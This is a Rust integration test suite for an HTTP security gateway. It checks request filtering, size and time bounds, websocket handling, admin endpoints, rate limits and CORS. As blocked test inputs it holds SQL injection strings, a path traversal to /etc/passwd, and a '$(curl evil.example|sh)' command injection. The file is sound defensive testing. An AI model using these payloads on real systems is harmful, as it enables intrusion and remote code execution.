//! The gate over real sockets, before an upstream that tells what it got.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice,
    missing_docs
)]

#[path = "http/access.rs"]
mod access;
#[path = "http/life.rs"]
mod life;
#[path = "http/preflights.rs"]
mod preflights;
#[path = "http/quarantine.rs"]
mod quarantine;
#[path = "http/smuggling.rs"]
mod smuggling;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use tidegate_gate::http::{Access, Bounds, Config, Gate, Upstream, serve};

/// An upstream in threads: answers each request with its head and body, as text.
struct Echo {
    address: SocketAddr,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Echo {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let to = Arc::clone(&seen);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let to = Arc::clone(&to);
                std::thread::spawn(move || Self::talk(stream, &to));
            }
        });
        Self { address, seen }
    }

    fn talk(stream: TcpStream, seen: &Mutex<Vec<String>>) {
        let mut write = stream.try_clone().unwrap();
        let mut read = BufReader::new(stream);
        while let Some(request) = message(&mut read) {
            seen.lock().unwrap().push(request.clone());
            if request.contains("upgrade: websocket") {
                write
                    .write_all(
                        b"HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n",
                    )
                    .unwrap();
                let mut bytes = [0; 64];
                while let Ok(n @ 1..) = read.read(&mut bytes) {
                    write.write_all(&bytes[..n]).unwrap();
                }
                return;
            }
            if request.starts_with("GET /stream ") {
                write.write_all(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: x-hop\r\nX-Hop: 1\r\n\r\n3\r\nabc\r\n").unwrap();
                write.write_all(b"3\r\ndef\r\n0\r\n\r\n").unwrap();
                continue;
            }
            if request.starts_with("GET /gone ") {
                return;
            }
            let answer = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{request}", request.len());
            write.write_all(answer.as_bytes()).unwrap();
        }
    }

    fn seen(&self) -> usize {
        self.seen.lock().unwrap().len()
    }
}

/// Reads a head, and a body of the length that it says.
fn message(read: &mut impl BufRead) -> Option<String> {
    let mut head = String::new();
    loop {
        let mut line = String::new();
        if read.read_line(&mut line).ok()? == 0 {
            return None;
        }
        head.push_str(&line);
        if line == "\r\n" {
            break;
        }
    }
    let length = head
        .lines()
        .find_map(|l| l.to_ascii_lowercase().strip_prefix("content-length: ").map(str::to_string));
    let mut body = vec![0; length.map_or(0, |l| l.trim().parse().unwrap())];
    read.read_exact(&mut body).ok()?;
    Some(head + &String::from_utf8_lossy(&body))
}

fn config(upstream: SocketAddr) -> Config {
    let any = "127.0.0.1:0".parse().unwrap();
    Config {
        listen: any,
        admin: Some(any),
        upstream: format!("http://{upstream}").parse::<Upstream>().unwrap(),
        upstream_ca: None,
        host: None,
        load: Box::new(|| Ok(None)),
        routes: Vec::new(),
        tls: None,
        client_ca: None,
        limits: None,
        access: Access::Off,
        quarantine: None,
        workers: 2,
        bounds: Bounds {
            body: 100_000,
            head: 16 << 10,
            head_time: Duration::from_millis(800),
            body_time: Duration::from_millis(800),
            drain: Duration::from_secs(5),
            ..Bounds::default()
        },
    }
}

fn start(upstream: SocketAddr) -> Gate {
    serve(config(upstream), |_| {}).unwrap()
}

/// Sends bytes and reads until the other side closes, or one answer is there.
fn send(to: SocketAddr, request: &[u8]) -> String {
    let mut stream = TcpStream::connect(to).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    stream.write_all(request).unwrap();
    message(&mut BufReader::new(stream)).unwrap_or_default()
}

fn post(body: &str) -> Vec<u8> {
    format!(
        "POST /orders HTTP/1.1\r\nHost: shop.example.com\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

#[test]
fn what_passes_is_handed_on_and_what_does_not_is_refused() {
    let echo = Echo::start();
    let gate = start(echo.address);
    let passed = send(gate.address, &post(r#"{"order": 7, "note": "don't ring, it's late"}"#));
    assert!(passed.starts_with("HTTP/1.1 200") && passed.contains("it's late"), "{passed}");
    for line in [
        "host: shop.example.com",
        "x-forwarded-for: 127.0.0.1",
        "x-forwarded-proto: http",
        "traceparent: 00-",
    ] {
        assert!(passed.contains(line), "{line}: {passed}");
    }
    let before = echo.seen();
    for attack in [
        r#"{"q": "1' UNION SELECT username,password FROM users-- -"}"#,
        r#"{"q": "eyJhIjoiMScgVU5JT04gU0VMRUNUIHVzZXJuYW1lLHBhc3N3b3JkIEZST00gdXNlcnMtLSAtIn0="}"#,
        r#"{"role": "user", "role": "admin"}"#,
    ] {
        let refused = send(gate.address, &post(attack));
        assert!(refused.starts_with("HTTP/1.1 403"), "{refused}");
        assert!(!refused.contains("UNION") && !refused.contains("sql"), "{refused}");
    }
    let query = b"GET /?file=..%2f..%2f..%2fetc%2fpasswd HTTP/1.1\r\nHost: a\r\n\r\n";
    assert!(send(gate.address, query).starts_with("HTTP/1.1 403"));
    assert_eq!(echo.seen(), before, "the upstream saw none of it");
    gate.stop();
}

#[test]
fn an_answer_is_streamed_without_what_was_for_the_hop() {
    let echo = Echo::start();
    let gate = start(echo.address);
    let mut stream = TcpStream::connect(gate.address).unwrap();
    stream.write_all(b"GET /stream HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n").unwrap();
    let mut all = String::new();
    stream.read_to_string(&mut all).unwrap();
    assert!(all.contains("3\r\nabc\r\n") && all.ends_with("0\r\n\r\n"), "{all}");
    assert!(!all.contains("x-hop"), "{all}");
    assert!(send(gate.address, b"GET /gone HTTP/1.1\r\nHost: a\r\n\r\n").starts_with("HTTP/1.1 502"));
    gate.stop();
}

#[test]
fn bounds_hold() {
    let echo = Echo::start();
    let gate = start(echo.address);
    let long = send(gate.address, &post(&format!("\"{}\"", "a".repeat(100_000))));
    assert!(long.starts_with("HTTP/1.1 413"), "{long}");
    let chunk = format!("4000\r\n{}\r\n", "a".repeat(0x4000));
    let endless =
        format!("POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n{}", chunk.repeat(10));
    assert!(send(gate.address, endless.as_bytes()).starts_with("HTTP/1.1 413"));
    let wide = format!("GET / HTTP/1.1\r\nHost: a\r\nX: {}\r\n\r\n", "a".repeat(200_000));
    let answer = send_all_it_takes(gate.address, wide.as_bytes());
    assert!(answer.starts_with("HTTP/1.1 431") || answer.is_empty(), "{answer}");
    let many: String = (0..200).map(|n| format!("X-{n}: 1\r\n")).collect();
    let answer = send(gate.address, format!("GET / HTTP/1.1\r\nHost: a\r\n{many}\r\n").as_bytes());
    assert!(answer.starts_with("HTTP/1.1 431") || answer.is_empty(), "{answer}");
    // A head, and a body, that never end.
    for slow in
        ["GET / HTTP/1.1\r\nHost: a\r\nX-", "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 50\r\n\r\n{"]
    {
        let mut stream = TcpStream::connect(gate.address).unwrap();
        stream.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
        stream.write_all(slow.as_bytes()).unwrap();
        let began = Instant::now();
        let mut all = Vec::new();
        let _ = stream.read_to_end(&mut all);
        assert!(began.elapsed() < Duration::from_secs(15), "closed by the gate: {slow}");
    }
    assert_eq!(echo.seen(), 0);
    gate.stop();
}

/// Asks for a page of the admin's address.
fn page(admin: SocketAddr, what: &str) -> String {
    send(admin, format!("{what} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n").as_bytes())
}

/// Waits until something is so.
fn until(what: &str, mut is: impl FnMut() -> bool) {
    let began = Instant::now();
    while !is() {
        assert!(began.elapsed() < Duration::from_secs(30), "{what}");
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// Writes until the other side has had enough.
fn send_all_it_takes(to: SocketAddr, request: &[u8]) -> String {
    let mut stream = TcpStream::connect(to).unwrap();
    let _ = stream.write_all(request);
    message(&mut BufReader::new(stream)).unwrap_or_default()
}

#[test]
fn sockets_are_joined_after_the_request_passed() {
    let echo = Echo::start();
    let gate = start(echo.address);
    let mut stream = TcpStream::connect(gate.address).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    stream.write_all(format!("GET /chat HTTP/1.1\r\n{SOCKET}\r\n").as_bytes()).unwrap();
    let mut read = BufReader::new(stream.try_clone().unwrap());
    let head = message(&mut read).unwrap();
    assert!(head.starts_with("HTTP/1.1 101"), "{head}");
    stream.write_all(b"hello").unwrap();
    let mut back = [0; 5];
    read.read_exact(&mut back).unwrap();
    assert_eq!(&back, b"hello");
    drop((stream, read));
    let attack = format!("GET /chat?q=%27%20OR%201=1--%20 HTTP/1.1\r\n{SOCKET}\r\n");
    let refused = send(gate.address, attack.as_bytes());
    assert!(refused.starts_with("HTTP/1.1 403"), "{refused}");
    gate.stop();
}

/// What asks to go on as a web socket.
const SOCKET: &str = "Host: a\r\nConnection: Upgrade\r\nUpgrade: WebSocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";

/// The upstream would join whoever asks: those are no web sockets, so it isn't asked.
#[test]
fn what_is_no_handshake_is_a_plain_request() {
    let echo = Echo::start();
    let gate = start(echo.address);
    let keyless = SOCKET.replace("Sec-WebSocket-Key", "X-Key");
    for request in [
        format!("POST /chat HTTP/1.1\r\n{SOCKET}Content-Length: 2\r\n\r\n{{}}"),
        format!("GET /chat HTTP/1.1\r\n{keyless}\r\n"),
        format!("GET /chat HTTP/1.1\r\n{}\r\n", SOCKET.replace("13", "8")),
    ] {
        let answer = send(gate.address, request.as_bytes());
        assert!(answer.starts_with("HTTP/1.1 200") && !answer.contains("upgrade:"), "{request}{answer}");
    }
    gate.stop();
}

#[test]
fn health_metrics_and_reloading_are_on_their_own_address() {
    let echo = Echo::start();
    let loads = Arc::new(Mutex::new(0));
    let counter = Arc::clone(&loads);
    let told = Arc::new(Mutex::new(Vec::new()));
    let tell = Arc::clone(&told);
    let load = move || {
        let mut count = counter.lock().unwrap();
        *count += 1;
        if *count == 2 { Err("it is torn".to_string()) } else { Ok(None) }
    };
    let config = Config { load: Box::new(load), ..config(echo.address) };
    let gate = serve(config, move |line| tell.lock().unwrap().push(line.to_string())).unwrap();
    let admin = gate.admin.unwrap();
    let ask = |what: &str| {
        send(admin, format!("{what} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n").as_bytes())
    };
    assert!(ask("GET /healthz").starts_with("HTTP/1.1 200"));
    assert!(ask("GET /readyz").ends_with("ready\n"));
    assert!(ask("POST /reload").starts_with("HTTP/1.1 409"), "a contract that can't be used changes nothing");
    assert!(ask("POST /reload").starts_with("HTTP/1.1 200"));
    assert!(ask("GET /reload").starts_with("HTTP/1.1 405"));
    send(gate.address, &post("{}"));
    send(gate.address, &post(r#"{"a": "$(curl evil.example|sh)"}"#));
    let metrics = ask("GET /metrics");
    for line in [
        "tidegate_decisions_total{verdict=\"allow\"} 1",
        "tidegate_decisions_total{verdict=\"deny\"} 1",
        "tidegate_reasons_total{class=\"os-command\"} 1",
        "tidegate_reloads_total{result=\"failed\"} 1",
        "tidegate_reloads_total{result=\"done\"} 1",
        "tidegate_decision_seconds_count 2",
    ] {
        assert!(metrics.contains(line), "{line}: {metrics}");
    }
    assert!(told.lock().unwrap().iter().any(|l| l.contains("it is torn")));
    assert!(
        send(gate.address, b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n").contains("GET /metrics"),
        "clients get the upstream's"
    );
    gate.stop();
}

#[test]
fn no_two_gates_share_a_port() {
    let upstream = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let gate = start(upstream);
    let same = serve(Config { listen: gate.address, ..config(upstream) }, |_| {});
    assert!(same.err().unwrap().to_string().contains("in use"));
    let admin = serve(Config { admin: gate.admin, ..config(upstream) }, |_| {});
    assert!(admin.err().unwrap().to_string().contains("in use"));
    gate.stop();
}

#[test]
fn requests_under_way_end_when_the_gate_does() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let gate = start(listener.local_addr().unwrap());
    let (address, admin) = (gate.address, gate.admin.unwrap());
    let client = std::thread::spawn(move || send(address, b"GET /slow HTTP/1.1\r\nHost: a\r\n\r\n"));
    let (stream, _) = listener.accept().unwrap();
    let mut read = BufReader::new(stream.try_clone().unwrap());
    message(&mut read).unwrap();
    let stopping = std::thread::spawn(move || gate.stop());
    // No new connection is taken once the listener is gone; the one under way goes on.
    let mut tries = 0;
    while TcpStream::connect(address).is_ok() && tries < 500 {
        tries += 1;
        std::thread::sleep(Duration::from_millis(10));
    }
    assert!(tries < 500);
    let ready = page(admin, "GET /readyz");
    assert!(ready.starts_with("HTTP/1.1 503") && ready.ends_with("draining\n"), "{ready}");
    let metrics = page(admin, "GET /metrics");
    assert!(metrics.contains("tidegate_in_flight 1\n"), "{metrics}");
    let mut stream = stream;
    stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\ndone").unwrap();
    assert!(client.join().unwrap().ends_with("done"));
    stopping.join().unwrap();
    assert!(TcpStream::connect(admin).is_err(), "all is over");
}

#[test]
fn a_client_that_comes_too_often_is_told_when_to_come_again() {
    let echo = Echo::start();
    let contract = r#"{"version":1,"graph_digest":"","compiled_by":"",
        "defaults":{"account":null,"region":null,"mode":"block","on_error":"closed","max_bytes":1000000,"max_depth":64},
        "functions":{"t/F":{"logical_id":"F","name":"f","type":"AWS::Lambda::Function","exposure":"anonymous","taint":0,"roles":[],
          "limits":{"concurrency":null,"timeout_seconds":null,"memory_mb":null,"rate":{"events":1,"seconds":60,"burst":2}},"egress":[],
          "edges":[{"id":"t/Api->t/F:apigw-v2","from":"t/Api","trigger":"apigw-v2","evidence":"","exposure":"anonymous","taint":0,
            "origin":{"arns":[],"accounts":[],"regions":[],"ids":["abc"],"sources":[],"detail_types":[]},
            "mode":"block","inspect":"full","on_deny":{"answer":"respond"},"unknown":[],"cors":{"origins":["https://shop.example"]}}]}}}"#;
    let contract: tidegate_graph::contract::Contract = serde_json::from_str(contract).unwrap();
    let load = move || Ok(Some(contract.clone()));
    let gate = serve(Config { load: Box::new(load), ..config(echo.address) }, |_| {}).unwrap();
    let statuses: Vec<String> =
        (0..4).map(|_| send(gate.address, &post("{}")).split(' ').nth(1).unwrap().to_string()).collect();
    assert_eq!(statuses, ["200", "200", "429", "429"]);
    let refused = send(gate.address, &post("{}"));
    assert!(
        refused.contains("retry-after: ") && !refused.contains("access-control-allow-origin"),
        "{refused}"
    );
    let from = |origin: &str| {
        let request = String::from_utf8(post("{}")).unwrap();
        let request = request.replacen("\r\n", &format!("\r\nOrigin: {origin}\r\n"), 1);
        send(gate.address, request.as_bytes())
    };
    let shop = from("https://shop.example");
    assert!(shop.contains("access-control-allow-origin: https://shop.example\r\n"), "{shop}");
    assert!(shop.contains("vary: origin\r\n"), "{shop}");
    let other = from("https://evil.example");
    assert!(other.contains(" 429 ") && !other.contains("access-control-allow-origin"), "{other}");
    assert_eq!(echo.seen(), 2);
    gate.stop();
}
